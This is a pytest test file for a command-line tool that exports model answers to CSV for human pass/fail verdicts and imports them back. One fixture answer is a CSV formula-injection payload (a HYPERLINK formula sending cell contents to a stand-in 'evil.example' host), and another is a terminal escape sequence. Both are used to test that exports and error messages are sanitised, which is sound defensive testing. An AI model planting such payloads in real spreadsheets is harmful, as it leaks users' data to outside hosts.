"""Judging in a spreadsheet: what is exported, what comes back, and whose verdict falls on which answer."""

import csv
import io
import json
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest

from migrator_tui.history.records import Judged, Mark, Verdict
from migrator_tui.history.store import History
from migrator_tui.project.config import load_project
from migrator_tui.reports.verdict_sheet import read_sheet
from tests.cli.conftest import Call

Rows = list[dict[str, str]]

ANSWERS = {
    "a": "fine",
    "b": '=HYPERLINK("http://evil.example/?"&A1)',
    "c": '-1 is; a "number",\nover two lines',
    "d": "",
}


def written(folder: Path, answers: Mapping[str, str] = ANSWERS, **more: Any) -> Path:
    """A project on two recordings, without checks: nothing judges its answers."""
    folder.mkdir(exist_ok=True)
    (folder / "migrator.toml").write_text(
        '[project]\nname = "rec"\n[baseline]\nmodel = "recorded:old.jsonl"\n'
        '[[candidates]]\nname = "newer"\nmodel = "recorded:new.jsonl"\n'
        '[[tasks]]\nname = "t"\nprompt = "t.md"\ncases = ["t.jsonl"]\n' + more.get("config", ""),
        "utf-8",
    )
    (folder / "t.md").write_text("Answer.\n", "utf-8")

    def write(name: str, rows: Sequence[Mapping[str, Any]]) -> None:
        (folder / name).write_text("".join(json.dumps(row) + "\n" for row in rows), "utf-8")

    cases = [{"id": i, "messages": [{"role": "user", "content": f"say {i}"}], "tags": ["x", i]} for i in answers]
    write("t.jsonl", cases)
    write("old.jsonl", [{"id": i, "output": f"old {i}"} for i in answers])
    write("new.jsonl", [{"id": i, "output": text} for i, text in answers.items()])
    return folder


@pytest.fixture
def folder(tmp_path: Path, call: Call, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The project, run once."""
    monkeypatch.setenv("MIGRATOR_USER", "Tess")
    made = written(tmp_path / "recorded")
    assert call("-C", made, "run", "--no-gate")[0] == 0
    return made


def exported(call: Call, folder: Path, *options: str) -> Rows:
    code, out, err = call("-C", folder, "verdicts", "export", *options)
    assert code == 0, err
    assert out.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(out.removeprefix("\ufeff"), newline="")))


def filled(rows: Rows, verdicts: Mapping[str, str], **more: str) -> Rows:
    """The rows with verdicts by case id."""
    return [row | ({"verdict": verdicts[row["case"]], **more} if row["case"] in verdicts else {}) for row in rows]


def saved(file: Path, rows: Rows, *, separator: str = ",", encoding: str = "utf-8-sig") -> Path:
    with file.open("w", encoding=encoding, newline="") as stream:
        writer = csv.DictWriter(stream, list(rows[0]), delimiter=separator)
        writer.writeheader()
        writer.writerows(rows)
    return file


def standing(folder: Path, model_name: str = "newer") -> dict[str, list[Verdict]]:
    with History.open(load_project(folder)) as history:
        return history.verdicts("t", model_name)


def words(folder: Path) -> dict[str, tuple[bool | None, str | None, str]]:
    return {case: (v[0].passed, v[0].note, v[0].author) for case, v in standing(folder).items()}


def test_there_and_back(call: Call, folder: Path, tmp_path: Path) -> None:
    rows = exported(call, folder)
    assert [row["case"] for row in rows] == list(ANSWERS)
    assert [row["output"].removeprefix("'") for row in rows] == list(ANSWERS.values())
    assert not any(cell[:1] in tuple("=+-@\t\r") for row in rows for cell in row.values() if cell)
    assert [row["output"][0] for row in rows[1:3]] == ["'", "'"]
    assert {(row["verdict"], row["note"], row["author"], row["as_exported"]) for row in rows} == {("",) * 4}
    assert (rows[0]["tags"], rows[0]["baseline_output"], rows[0]["version"]) == ("x; a", "old a", "v1")
    assert (rows[0]["model_name"], rows[0]["model"]) == ("newer", "recorded:new.jsonl")
    file = saved(tmp_path / "q.csv", filled(rows, {"a": "pass", "b": "Fail"}, note="-sehr\r\nschön"))
    code, out, err = call("-C", folder, "verdicts", "import", file)
    assert (code, out) == (0, ""), err
    assert err.startswith("2 verdicts (1 pass, 1 fail) by Tess given; 0 unchanged; 2 without a verdict\n")
    assert words(folder) == {"a": (True, "-sehr\nschön", "Tess"), "b": (False, "-sehr\nschön", "Tess")}
    with History.open(load_project(folder)) as history:
        found = history.standings("t", "newer")
    assert [(found[i].candidate, found[i].judged) for i in "abc"] == [
        (Mark.PASSED, Judged.PASS),
        (Mark.FAILED, Judged.FAIL),
        (Mark.UNJUDGED, Judged.NO),
    ], "standings are up to date at once"
    # What was judged is not to judge any more, and comes out as it went in.
    assert [row["case"] for row in exported(call, folder)] == ["c", "d"]
    again = exported(call, folder, "--which", "all")
    assert [(row["verdict"], row["judged_by"]) for row in again] == [
        ("pass", "Tess"),
        ("fail", "Tess"),
        *[("", "")] * 2,
    ]
    assert again[0]["note"] == "'-sehr\nschön"
    code, _, err = call("-C", folder, "verdicts", "import", saved(tmp_path / "again.csv", again))
    assert code == 0 and err.startswith("no verdict given; 2 unchanged; 2 without a verdict\n")
    assert [row["case"] for row in exported(call, folder, "--which", "failing")] == ["b"]


def test_one_undo_takes_back_one_import(call: Call, folder: Path, tmp_path: Path) -> None:
    rows = exported(call, folder)
    call("-C", folder, "verdicts", "import", saved(tmp_path / "1.csv", filled(rows, {"a": "pass"})))
    second = filled(rows, {"a": "fail", "b": "pass", "c": "pass"})
    second[2]["author"] = "Bea"
    code, _, err = call("-C", folder, "verdicts", "import", saved(tmp_path / "2.csv", second), "--author", "Anna")
    assert code == 0 and "3 verdicts (2 pass, 1 fail) by Anna (2), Bea (1) given" in err
    assert {case: who for case, (_, _, who) in words(folder).items()} == {"a": "Anna", "b": "Anna", "c": "Bea"}
    code, out, err = call("-C", folder, "verdicts", "undo")
    assert (code, out) == (0, "") and "took back 3 verdicts" in err
    assert words(folder) == {"a": (True, None, "Tess")}
    with History.open(load_project(folder)) as history:
        assert history.standings("t", "newer")["b"].candidate is Mark.UNJUDGED
    assert "took back 1 verdict," in call("-C", folder, "verdicts", "undo")[2]
    code, _, err = call("-C", folder, "verdicts", "undo")
    assert code == 2 and "nothing to take back" in err


def test_an_undo_by_one_of_its_authors_takes_back_the_whole_import(call: Call, folder: Path, tmp_path: Path) -> None:
    rows = filled(exported(call, folder), {"a": "pass", "b": "pass"})
    rows[0]["author"] = "Bea"
    call("-C", folder, "verdicts", "import", saved(tmp_path / "q.csv", rows))
    with History.open(load_project(folder)) as history:
        assert {verdict.case_id for verdict in history.undo_last("Bea")} == {"a", "b"}
    assert words(folder) == {}


def test_a_dry_run_gives_nothing(call: Call, folder: Path, tmp_path: Path) -> None:
    file = saved(tmp_path / "q.csv", filled(exported(call, folder), {"a": "pass"}))
    code, _, err = call("-C", folder, "verdicts", "import", file, "--dry-run")
    assert code == 0 and "1 verdict (1 pass, 0 fail) by Tess would be given" in err
    assert words(folder) == {}


@pytest.mark.parametrize(
    ("separator", "encoding", "before"),
    [
        (";", "utf-8-sig", ""),
        (";", "utf-8", "sep=;\n"),
        ("\t", "utf-16", ""),
        ("|", "utf-8", ""),
        (",", "cp1252", ""),
    ],
)
def test_what_spreadsheets_make_of_it(
    call: Call, folder: Path, tmp_path: Path, separator: str, encoding: str, before: str
) -> None:
    rows = filled(exported(call, folder), {"a": "WAHR", "b": " Failed ", "c": "0", "d": "✓"}, note="schön")
    changed = [
        {"Mein Feld": "x", **{name.upper().replace("_", " "): row[name] for name in reversed(row)}} for row in rows
    ]
    file = saved(tmp_path / "q.csv", changed, separator=separator, encoding="utf-8")
    text = file.read_text("utf-8")
    if encoding == "cp1252":
        text = text.replace("✓", "yes")
    file.write_bytes((before + text.replace("\r\n", "\n")).encode(encoding))
    code, _, err = call("-C", folder, "verdicts", "import", file)
    assert code == 0, err
    assert ("read as Windows-1252" in err) == (encoding == "cp1252")
    assert {case: (passed, note) for case, (passed, note, _) in words(folder).items()} == {
        "a": (True, "schön"),
        "b": (False, "schön"),
        "c": (False, "schön"),
        "d": (True, "schön"),
    }


def test_a_sheet_with_mistakes_is_refused_whole_and_each_is_named(call: Call, folder: Path, tmp_path: Path) -> None:
    rows = filled(exported(call, folder), {"a": "pass", "b": "maybe\x1b[2J", "c": "pass"})
    rows[2]["output_id"] = ""
    rows[3]["note"] = "hm"
    output = rows[0]["output_id"]
    twice = rows[0] | {"verdict": "fail"}
    apart = rows[0] | {"case": "d", "verdict": "pass"}
    file = saved(tmp_path / "q.csv", [*rows, twice, apart])
    code, out, err = call("-C", folder, "verdicts", "import", file)
    assert (code, out, words(folder)) == (2, "", {})
    assert "\x1b" not in err
    # The answer of case c holds a line break: from there on rows and lines differ.
    assert err.splitlines() == [
        f'{file}:3: row 3: "maybe\\x1b[2J" is no verdict; write pass or fail',
        f"{file}:4: row 4: a verdict needs the output_id that the row was exported with",
        f"{file}:6: row 5: a note without a verdict; write pass or fail as well",
        f"{file}:7: row 6: says otherwise about case a of newer than {file}:2: row 2",
        f'{file}:8: row 7: output {output} is of case "a", the row says "d"; were columns sorted apart?',
        "nothing was imported: 5 rows to be mended",
    ]


def test_a_case_id_that_a_spreadsheet_garbled_harms_nothing(call: Call, folder: Path, tmp_path: Path) -> None:
    rows = filled(exported(call, folder), {"a": "pass"})
    rows[0] |= {"case": "02. Jan", "output_id": rows[0]["output_id"] + ".0"}
    assert call("-C", folder, "verdicts", "import", saved(tmp_path / "q.csv", rows))[0] == 0
    assert words(folder)["a"][0] is True


def test_only_the_very_output_is_judged(call: Call, folder: Path, tmp_path: Path) -> None:
    rows = filled(exported(call, folder), {"a": "pass", "b": "pass", "c": "pass"})
    rows[0]["digest"] = rows[1]["digest"]
    rows[2]["output_id"] = "999999"
    code, _, err = call("-C", folder, "verdicts", "import", file := saved(tmp_path / "q.csv", rows))
    assert code == 3 and list(words(folder)) == ["b"]
    assert f"{file}:2: row 2: output" in err and "has another text" in err
    assert f"{file}:4: row 4: this history has no output 999999" in err
    assert "2 rows skipped" in err and "1 verdict (1 pass, 0 fail) by Tess given" in err


def test_a_verdict_on_an_answer_that_was_replaced_stays_with_its_text(
    call: Call, folder: Path, tmp_path: Path
) -> None:
    rows = filled(exported(call, folder), {"a": "pass", "b": "pass"})
    written(folder, ANSWERS | {"a": "another answer altogether"})
    call("-C", folder, "run")
    code, _, err = call("-C", folder, "verdicts", "import", saved(tmp_path / "q.csv", rows))
    assert code == 0 and "row 2: case a of newer has been answered otherwise since" in err and "row 3" not in err
    with History.open(load_project(folder)) as history:
        found = history.standings("t", "newer")
    assert (found["a"].candidate, found["a"].judged) == (Mark.UNJUDGED, Judged.STALE_PASS)
    assert found["b"].judged is Judged.PASS, "the same text from another run"
    assert [row["case"] for row in exported(call, folder)] == ["a", "c", "d"]


def test_what_was_judged_since_the_export_is_not_undone_by_an_untouched_row(
    call: Call, folder: Path, tmp_path: Path
) -> None:
    first = saved(tmp_path / "1.csv", filled(exported(call, folder), {"a": "pass", "b": "pass"}))
    call("-C", folder, "verdicts", "import", first)
    sheet = exported(call, folder, "--which", "all")
    newer = saved(tmp_path / "2.csv", filled(sheet, {"a": "fail", "b": "fail"}))
    call("-C", folder, "verdicts", "import", newer, "--author", "Anna")
    # In the older sheet nobody touched a, and somebody wrote a note to b.
    older = filled(sheet, {"b": "pass"}, note="looked again")
    code, _, err = call("-C", folder, "verdicts", "import", saved(tmp_path / "3.csv", older))
    assert code == 0 and "row 3: Anna has failed case b of newer since the export; this row counts" in err
    assert "row 2" not in err
    assert words(folder) == {"a": (False, None, "Anna"), "b": (True, "looked again", "Tess")}
    cleared = filled(exported(call, folder, "--which", "all"), {"a": ""})
    code, _, err = call("-C", folder, "verdicts", "import", saved(tmp_path / "4.csv", cleared))
    assert code == 0 and "an empty cell takes nothing back" in err and words(folder)["a"][0] is False


def test_baseline_answers_and_repeats(call: Call, folder: Path, tmp_path: Path) -> None:
    assert call("-C", folder, "run", "--repeat", "3", "--no-gate")[0] == 0
    rows = exported(call, folder, "--candidate", "baseline", "--candidate", "newer")
    assert [(row["case"], row["model_name"]) for row in rows[:2]] == [("a", "baseline"), ("a", "newer")]
    assert len(rows) == 2 * len(ANSWERS), "repeats of one text are one answer"
    assert rows[0]["baseline_output"] == "" and rows[1]["baseline_output"] == "old a"
    only = [row for row in rows if row["model_name"] == "baseline"]
    file = saved(tmp_path / "q.csv", filled(only, {"a": "fail"}))
    assert call("-C", folder, "verdicts", "import", file)[0] == 0
    assert standing(folder, "baseline")["a"][0].passed is False and not standing(folder)
    with History.open(load_project(folder)) as history:
        found = history.standings("t", "newer")["a"]
    assert found.baseline is Mark.FAILED, "all three repeats have that text"


def test_answers_longer_than_a_cell_are_cut_and_said_to_be(call: Call, tmp_path: Path) -> None:
    long = {"a": "😀" * 20_000, "b": "=" + "x" * 40_000, "c": "y" * 32_766}
    folder = written(tmp_path / "long", long)
    call("-C", folder, "run")
    code, out, err = call("-C", folder, "verdicts", "export")
    rows = list(csv.DictReader(io.StringIO(out.removeprefix("\ufeff"), newline="")))
    assert code == 0 and "2 texts cut" in err and "output of case a, newer" in err
    for row in rows:
        assert len(row["output"].encode("utf-16-le")) // 2 <= 32_767
    assert rows[0]["output"].endswith(" more characters]") and rows[2]["output"] == long["c"]
    file = saved(tmp_path / "q.csv", filled(rows, {"a": "pass", "b": "fail"}, note="-" + "n" * 40_000))
    assert call("-C", folder, "verdicts", "import", file)[0] == 0
    again = saved(tmp_path / "again.csv", exported(call, folder, "--which", "all"))
    code, _, err = call("-C", folder, "verdicts", "import", again)
    assert code == 0 and "no verdict given; 2 unchanged" in err


def test_a_sheet_is_a_new_file(call: Call, folder: Path, tmp_path: Path) -> None:
    file = tmp_path / "q.csv"
    code, out, err = call("-C", folder, "verdicts", "export", "--output", file, "--separator", "semicolon")
    assert (code, out, err) == (0, "", f"4 of 4 answers in {file}\n")
    before = file.read_bytes()
    assert before.startswith(b"\xef\xbb\xbftask;case;") and b"\r\n" in before
    code, _, err = call("-C", folder, "verdicts", "export", "--output", file)
    assert code == 2 and "is there already" in err and file.read_bytes() == before
    code, _, err = call("-C", folder, "verdicts", "export", "--output", tmp_path / "other.csv", "--candidate", "nwer")
    assert code == 2 and 'did you mean "newer"?' in err and not (tmp_path / "other.csv").exists()


def test_nothing_to_judge_is_said(call: Call, tmp_path: Path) -> None:
    folder = written(tmp_path / "r", config='checks = [{ type = "contains", value = "n" }]\n')
    code, _, err = call("-C", folder, "verdicts", "export")
    assert code == 0 and "there is no answer to judge yet" in err
    call("-C", folder, "run")
    code, _, err = call("-C", folder, "verdicts", "export")
    assert code == 0 and err == "none of 4 answers waits for a verdict; --which all takes every one\n"
    rows = exported(call, folder, "--which", "failing")
    assert [row["case"] for row in rows] == ["b", "d"] and rows[0]["failed_checks"].startswith("contains: ")


@pytest.mark.parametrize(
    ("text", "says"),
    [
        ("", ":1: is empty"),
        ("a,b\n1,2\n", ':1: no column "verdict"; there is a, b'),
        ("verdikt,output_id,digest\n", ':1: no column "verdict"; is it "verdikt"?'),
        ("verdict,Verdict,output_id,digest\n", ":1: two columns"),
        ("\x81\x8d\ufffe", ":1: not text"),
        ('sep="\nverdict,output_id,digest\n', ':1: no column "verdict"'),
    ],
)
def test_what_is_no_sheet(call: Call, folder: Path, tmp_path: Path, text: str, says: str) -> None:
    file = tmp_path / "q.csv"
    file.write_bytes(text.encode("utf-8") if "\x81" not in text else b"verdict\x81\xff,\n")
    code, out, err = call("-C", folder, "verdicts", "import", file)
    assert (code, out, err.count("\n")) == (2, "", 1)
    assert f"{file}{says}" in err


@pytest.mark.parametrize(
    ("written", "number"),
    [
        ("1234", 1234),
        ("12.0", 12),
        ("12,0", 12),
        ("1,234", 1234),
        ("1.234.567,0", 1234567),
        ("1 234", 1234),
        ("12,34", None),
        ("1.2E+03", None),
        ("-4", None),
        ("", None),
    ],
)
def test_an_output_id_as_spreadsheets_format_it(written: str, number: int | None) -> None:
    row = f'verdict;output_id;digest\npass;"{written}";sha256:ab\n'
    sheet = read_sheet(row.encode(), "q.csv")
    assert [stated.output_id for stated in sheet.stated] == ([] if number is None else [number])
    assert bool(sheet.mistakes) == (number is None)


def test_a_sheet_that_is_not_there(call: Call, folder: Path, tmp_path: Path) -> None:
    code, _, err = call("-C", folder, "verdicts", "import", tmp_path / "none.csv")
    assert code == 2 and "no such file" in err
